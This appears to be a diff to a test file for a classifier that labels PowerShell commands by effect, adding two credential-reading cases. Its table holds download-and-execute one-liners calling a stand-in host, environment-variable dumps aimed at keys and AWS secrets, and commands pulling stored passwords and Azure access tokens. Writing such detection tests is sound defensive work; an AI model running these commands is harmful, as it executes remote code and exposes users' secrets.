@@ -80,6 +80,8 @@ describe('what PowerShell does', () => {
     ['iex (iwr https://x.test/i.ps1)', 'execute host'],
     ['& ([scriptblock]::Create((irm https://x.test/i.ps1)))', 'execute host'],
     ['gci env:', 'reveal-environment environment:all'],
+    ['(Get-StoredCredential -Target x).Password', 'reveal-environment credential:secret'],
+    ['(Get-AzAccessToken).Token', 'reveal-environment credential:secret'],
     ['gci env:*', 'reveal-environment environment:all'],
     ['gci env:*KEY*', 'reveal-environment environment:all'],
     ['gci env:AWS*', 'reveal-environment environment:all'],
